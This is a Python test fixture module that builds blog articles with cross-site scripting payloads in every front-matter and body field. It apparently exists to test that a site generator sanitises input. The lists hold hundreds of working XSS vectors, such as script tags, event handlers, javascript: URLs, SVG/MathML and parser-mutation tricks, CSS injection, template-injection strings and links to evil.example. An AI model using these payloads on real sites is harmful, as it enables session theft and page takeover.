"""Texts by which somebody who writes articles might have a script run in the browser of somebody who reads them.

Each calls `alert` where it works, or leads, frames, styles or posts where nobody asked for it. They stand in titles,
categories, bodies, addresses, names and tags alike.
"""

from __future__ import annotations

from base64 import b64encode

_RUN = "<script>alert(1)</script>"
_RUN_64 = b64encode(_RUN.encode()).decode()


def _references(text: str, form: str) -> str:
    """Write each character as a reference: `form` holds its number."""
    return "".join(form.format(ord(sign)) for sign in text)


SCRIPTS = (
    _RUN,
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt >alert(1)</sCrIpT >",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<script>alert(1)",
    "<script>alert(1)//",
    '<script src="data:text/javascript,alert(1)"></script>',
    "<script src=//evil.example/a.js></script>",
    '<script type="module">alert(1)</script>',
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<scri\x00pt>alert(1)</scri\x00pt>",
    "\u202e<script>alert(1)</script>\u202c",
    "＜script＞alert(1)＜/script＞",
    "\u017fcript><ſcript>alert(1)</ſcript>",
    "<noscript><script>alert(1)</script></noscript>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "&#0000000000060;script&#0000000000062;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)
"""Elements that run, in every spelling."""

HANDLERS = (
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img src='x' onerror='alert(1)'>",
    "<img src=x onerror=`alert(1)`>",
    "<img/src=x/onerror=alert(1)>",
    "<img\tsrc=x\nonerror\r=\falert(1)>",
    '<img src="x"onerror="alert(1)">',
    "<img src=x onerror=" + _references("alert(1)", "&#{};") + ">",
    "<img src=x onerror=" + _references("alert(1)", "&#x{:x};") + ">",
    "<img src=x onerror=" + _references("alert(1)", "&#{:07d}") + ">",
    "<img src=x onerror=\\u0061lert(1)>",
    "<img src=x:x onerror=eval(atob('YWxlcnQoMSk='))>",
    "<img src=x onerror\x00=alert(1)>",
    '<img """><img src=x onerror=alert(1)>">',
    "<img src=x onerror=alert(1)//",
    "<img srcset=',,,,x' onerror=alert(1)>",
    "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA= onload=alert(1)>",
    "<picture><source srcset=x><img src onerror=alert(1)></picture>",
    "<image src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<div tabindex=0 autofocus onfocus=alert(1)>x</div>",
    "<a href=x autofocus onfocus=alert(1)>x</a>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<style>@keyframes k{}</style><b style='animation:k' onanimationstart=alert(1)>x</b>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<object data=x onerror=alert(1)></object>",
    "<p onmouseover=alert(1) onclick=alert(1)>x</p>",
    "<xyz onclick=alert(1) contenteditable autofocus onfocus=alert(1)>x</xyz>",
    "<button popovertarget=x onclick=alert(1)>x</button><div id=x popover onbeforetoggle=alert(1)>x</div>",
)
"""Attributes that run."""

BREAKOUTS = (
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onerror="alert(1)',
    "' onerror='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    "` onerror=alert(1) x=`",
    "x onerror=alert(1) ",
    '</title><script>alert(1)</script><title>"',
    "</style><script>alert(1)</script><style>",
    "</script><script>alert(1)</script><script>",
    "</textarea><script>alert(1)</script>",
    "</noscript><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script><!--",
    "--!><img src=x onerror=alert(1)>",
    "]]><script>alert(1)</script><![CDATA[",
    "?><script>alert(1)</script><?x ",
    "</description></item><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    "</summary><html:script xmlns:html='http://www.w3.org/1999/xhtml'>alert(1)</html:script>",
    "<html:img xmlns:html='http://www.w3.org/1999/xhtml' src='x' onerror='alert(1)'/>",
    '\\"; alert(1); //',
    "');alert(1);//",
    "${alert(1)}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% import 'os' as os %}{{ os.system('x') }}",
    "{{constructor.constructor('alert(1)')()}}",
    "\u2028alert(1)\u2029",
)
"""Ends of what they might stand in."""

ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "javascript\r\n:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript&#x3A;alert(1)",
    "javascript:%61lert(1)",
    "javascript://feeds.example/%0aalert(1)",
    "javascript:alert(1)//.png",
    "https:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "vbscript:msgbox(1)",
    f"data:text/html,{_RUN}",
    f"DATA:text/html;base64,{_RUN_64}",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>{_RUN}</svg>",
    "blob:https://feeds.example/x",
    "file:///etc/passwd",
    '//evil.example/x.png" onerror="alert(1)',
    "https://evil.example/x.png?'onerror='alert(1)",
)
"""Addresses that run, or lead to what does."""

LINKS = (
    '<a href="javascript:alert(1)">x</a>',
    "<a href=javascript&colon;alert&lpar;1&rpar;>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='\x19javascript:alert(1)'>x</a>",
    f"<a href='data:text/html;base64,{_RUN_64}'>x</a>",
    "[x](javascript:alert(1))",
    "[x](<java script:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    '![x](x"onerror="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex type=image src=x action=javascript:alert(1) onerror=alert(1)>",
    "<base href=javascript:alert(1)//>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<link rel=import href=data:text/html,x>",
    "<area href=javascript:alert(1)>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<body background=javascript:alert(1)>",
    "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
    "<video poster=javascript:alert(1)></video>",
    "<a ping=//evil.example/ href=https://evil.example/>x</a>",
)
"""Elements that lead there."""

FRAMES = (
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe srcdoc='&lt;script&gt;parent.alert(1)&lt;/script&gt;'></iframe>",
    f"<iframe src='data:text/html,{_RUN}'></iframe>",
    "<iframe src=https://video.example/player onload=alert(1)></iframe>",
    "<iframe src='javascript:/*player*/alert(1)'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<object data='data:text/html,<script>parent.alert(1)</script>'></object>",
    "<embed src=javascript:alert(1)>",
    f"<embed src='data:text/html;base64,{_RUN_64}'>",
    "<applet code=x archive=//evil.example/x.jar></applet>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    f"<meta http-equiv=refresh content='0;url=data:text/html,{_RUN}'>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/>",
    "<meta http-equiv=set-cookie content=a=b>",
    "<portal src=https://evil.example/></portal>",
)
"""Pages within pages, or in place of them."""

FOREIGN = (
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><set attributeName=href to=javascript:alert(1) /><text y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x\"/></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
)
"""Other vocabularies within HTML."""

MUTATIONS = (
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<math><mi><style><!--</style><img src=x onerror=alert(1)>--></style></mi></math>",
    "<svg><title><style><img title='</style><img src=x onerror=alert(1)>'></style></title></svg>",
    "<template><script>alert(1)</script></template>",
    "<div><template shadowrootmode=open><script>alert(1)</script></template></div>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<table><td><svg><desc><td></desc></svg><img src=x onerror=alert(1)>",
    "<b><p></b><img src=x onerror=alert(1)></p>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!---><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>&y;",
    "<!doctype html><img src=x onerror=alert(1)>",
    "</p></div></article></main><script>alert(1)</script>",
    "<" + "div" * 5 + "><img src=x onerror=alert(1)>",
    "<div>" * 300 + "<img src=x onerror=alert(1)>",
    "<a title='&quot;&gt;&lt;img src=x onerror=alert(1)&gt;'>x</a>",
    "<img alt='<img src=x onerror=alert(1)>' src='https://pictures.example/a.png'>",
    "<p title='--><script>alert(1)</script>'>x</p>",
    "`<img src=x onerror=alert(1)>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
)
"""What parsers take in different ways."""

STYLES = (
    "<style>@import '//evil.example/a.css';</style>",
    "<style>body{background:url(//evil.example/x)}</style>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    '<p style="width:expression(alert(1))">x</p>',
    "<p style='behavior:url(//evil.example/x.htc);-moz-binding:url(//evil.example/x.xml#x)'>x</p>",
    "<p style='position:fixed;inset:0;z-index:9999;background:red'>x</p>",
    "<link rel=stylesheet href='data:text/css,*{display:none}'>",
    '"; } * { background: url(//evil.example/x) } x { content: "',
    "\\22 ; } :root { display: none } /*",
    "<img src='https://pictures.example/a.png' style='background:url(javascript:alert(1))'>",
)
"""Styles that ask, cover or hide."""

VECTORS = (*SCRIPTS, *HANDLERS, *BREAKOUTS, *ADDRESSES, *LINKS, *FRAMES, *FOREIGN, *MUTATIONS, *STYLES)
"""All of them."""


def article_of(number: int) -> bytes:
    """Write an article that has one of the vectors wherever an article can have something."""
    vector = VECTORS[number]
    lines = [
        "---",
        f"title: {_quote(vector)}",
        f"categories: [{_quote('试')}, {_quote(vector)}]",
        f"tags: [{_quote(vector)}]",
        f"author: {_quote(vector)}",
        f"description: {_quote(vector)}" if number % 2 else "comments: false",
        f"thumbnail: {_quote(_address(vector, number))}",
        f"link: {_quote(vector)}" if number % 3 == 0 else "layout: post",
        f"lang: {_quote(vector)}" if number % 5 == 0 else "toc: true",
        f"date: 2022-07-{1 + number % 28:02}T08:{number % 60:02}:00Z",
        "---",
    ]
    text = (
        f"正文开始，这是第{number}篇。\n\n{vector}\n\n<p>A paragraph, then {vector} within.</p>\n\n"
        f'<p><a href="{vector}">link</a> <img src="{vector}" alt="{vector}"> <img data-src="{vector}"></p>\n\n'
        f"<p><a href='{vector}' title='{vector}'>link</a></p>\n\n<ul><li id={vector}>{vector}</li></ul>\n\n"
        "The text ends here.\n"
    )
    return ("\n".join(lines) + "\n" + text).encode()


def _address(vector: str, number: int) -> str:
    return vector if number % 2 else f"https://pictures.example/{vector}.png"


def _quote(text: str) -> str:
    """Write a string of YAML in double quotes (YAML 1.2, section 7.3.1)."""
    return (
        '"' + "".join(f"\\u{ord(sign):04x}" if sign < " " or sign in '"\\\u2028\u2029' else sign for sign in text) + '"'
    )
